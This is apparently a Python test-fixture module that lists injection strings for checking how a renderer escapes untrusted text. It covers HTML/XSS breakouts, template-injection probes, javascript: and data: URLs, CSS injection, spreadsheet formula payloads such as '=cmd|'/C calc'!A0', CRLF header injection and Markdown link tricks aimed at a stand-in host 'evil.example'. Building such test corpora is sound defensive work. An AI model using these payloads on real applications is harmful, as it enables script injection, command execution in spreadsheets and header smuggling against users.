"""Texts that try to become markup, script, template code, a formula, a header, a link or a command.

Everything that runs calls `hostile()`; everything that is fetched or linked is at `evil.example`, always without a
scheme: a link to `https://…` that somebody wrote in Markdown is a link, and nothing else ever is.
"""

EVIL = "evil.example"

BREAKOUTS = (
    '"><img src=x onerror=hostile()>',
    "'><img src=x onerror=hostile()>",
    '" autofocus onfocus="hostile()" x="',
    "' autofocus onfocus='hostile()' tabindex='0' x='",
    "` onfocus=hostile() autofocus x=`",
    "x onmouseover=hostile() y=",
    "<svg/onload=hostile()><animate onbegin=hostile() attributeName=x>",
    "<svg><script>hostile()</script></svg><math><mi xlink:href='javascript:hostile()'>x",
    "</script><script>hostile()</script>",
    "</SCRIPT\n><script >hostile()</script>",
    "</title></textarea></style></template></noscript><script>hostile()</script>",
    "</option></select></datalist></button><script>hostile()</script>",
    "</p></li></ul></td></table></details></main></body></html><script>hostile()</script>",
    "<!--<script>",
    "<!-- --!><script>hostile()</script>",
    "<![CDATA[<script>hostile()</script>]]>",
    "]]><script>hostile()</script>",
    "<?xml version='1.0'?><?php hostile() ?><% hostile() %>",
    "<b>bold</b><u>not</u><details open ontoggle=hostile()>",
    "<iframe srcdoc='<script>parent.hostile()</script>'></iframe><object data='javascript:hostile()'></object>",
    f"<form action='//{EVIL}'><input name=q autofocus onfocus=hostile()><button formaction='javascript:hostile()'>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'><base href='//{EVIL}/'>",
    f"<link rel=stylesheet href=//{EVIL}/x.css><style>@import '//{EVIL}/y.css';</style>",
    f"<video poster=//{EVIL}/p><source src=//{EVIL}/s onerror=hostile()></video><img srcset='//{EVIL}/i 2x'>",
)
TEMPLATES = (
    "{{ 7*7 }}{{ site.__class__.__mro__ }}{% include 'base.html' %}{# x #}",
    "{{ cycler.__init__.__globals__ }}${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__} {num} {open} {when} {status} %(title)s %s %d %",
    "\\u003cscript\\u003ehostile()\\x3c/script\\x3e",
)
ESCAPED = (
    "&lt;script&gt;hostile()&lt;/script&gt;",
    "&#60;img src=x onerror=hostile()&#62;&#x22;&quot;",
    "&amp;lt;script&amp;gt;hostile()&amp;lt;/script&amp;gt;",
    "&lt;img src=x onerror=hostile()&gt;&Tab;&NewLine;&colon;",
)
ADDRESSES = (
    "javascript:hostile()",
    "JaVaScRiPt&colon;hostile()//",
    "data:text/html,<script>hostile()</script>",
    "vbscript:hostile()",
    f"//{EVIL}/",
    f"/\\{EVIL}/",
)
STYLES = (
    f"}} body {{ background: url(//{EVIL}/x) }} /*",
    f"red;background:url('//{EVIL}/y');width:expression(hostile())",
    f"\\22\\29;}}@import '//{EVIL}/z';",
)
FORMULAS = (
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("//{EVIL}","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
)
LINES = (
    "one\r\nX-Injected: yes\r\nSet-Cookie: a=b",
    "one\nBEGIN:VEVENT\nSUMMARY:two\nEND:VEVENT\nEND:VCALENDAR",
    "one;two,three\\n\\;X-INJECTED:yes",
    f"one\n\n## Data\n\n- [two](//{EVIL}/)",
    "one\n/*\n  X-Injected: yes\nUser-agent: *\nDisallow: /",
    "one\u2028hostile()\u2029two\x85three",
    '\',"],"x":1}\\',
)
LINKS = (
    "[x](javascript:hostile())",
    "[x]( JaVaScRiPt:hostile() 'y')",
    "[x](java&Tab;script:hostile())",
    "[x](&#106;avascript&colon;hostile())",
    "[x](<javascript:hostile()>)",
    "[x](vbscript:hostile()) [x](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)",
    f"[x](//{EVIL}/a)",
    f"[x]( //{EVIL}/a)",
    f"[x](/\\{EVIL}/a) [x](\\\\{EVIL}/a) [x](\\/\\/{EVIL}/a) [x](\\\\\\\\{EVIL}/a)",
    f"[x](<//{EVIL}/a>) [x](&#47;&#47;{EVIL}/a) [x](&sol;&sol;{EVIL}/a)",
    f"[x](/&Tab;/{EVIL}/a) [x](&Tab;//{EVIL}/a) [x](/&NewLine;/{EVIL}/a) [x](\u00ad//{EVIL}/a)",
    f"[x](http:/{EVIL}) [x](http:{EVIL}) [x](https:\\\\{EVIL})",
    f"![x](//{EVIL}/p.png) ![x](https://{EVIL}/p.png) ![x](/\\{EVIL}/p.png)",
    "![x](data:image/svg+xml,<svg/onload=hostile()>)",
    '![x](a.png" onerror="hostile()) [x](a" onmouseover="hostile())',
    "[x](a 'b\" onmouseover=\"hostile()') ![x\" onerror=\"hostile()](a.png)",
    "<javascript:hostile()> <data:text/html,x> <x@example.org\"onclick=\"hostile()>",
    f"[r]: //{EVIL}/a\n\n[x][r] ![x][r]",
    "[r]: javascript:hostile() 'x'\n\n[x][r] [r]",
    "*<img src=x onerror=hostile()>* `<img src=x onerror=hostile()>` **\"><script>hostile()</script>**",
    "```html\n</code></pre><script>hostile()</script>\n```",
    "    </code></pre><script>hostile()</script>",
    "| a | <script>hostile()</script> |\n|---|:-:\" onclick=\"hostile()|\n| x | ' |",
    "# x\" onclick=\"hostile() {#y onclick=hostile()}\n\n{: onclick=hostile() }",
    "<div markdown=1 onclick=hostile()>\n\n*x*\n\n</div>\n\n<script>\nhostile()\n</script>",
    "x\n: </dd></dl><script>hostile()</script>",
)  # fmt: skip

ATTACKS = (*BREAKOUTS, *TEMPLATES, *ESCAPED, *ADDRESSES, *STYLES, *FORMULAS, *LINES, *LINKS)

WEB_ADDRESS = (
    "https://named.example/'-hostile()-'`;(){{7*7}}&lt;script&gt;%0d%0aX-Injected:%20yes[x](javascript:hostile())#'"
)
"""Every character that an address may contain, after a host that links may lead to."""
EMAIL = r"=cmd|`{{7*7}}`!A0//hostile\x$^*+~#x@named.example"
"""Characters that would end an address, or add a subject or a copy to a message, are refused: see `test_refused`."""
DOI = "10.1234/\"><img/src=x/onerror=hostile()>'`;&lt;script&gt;"
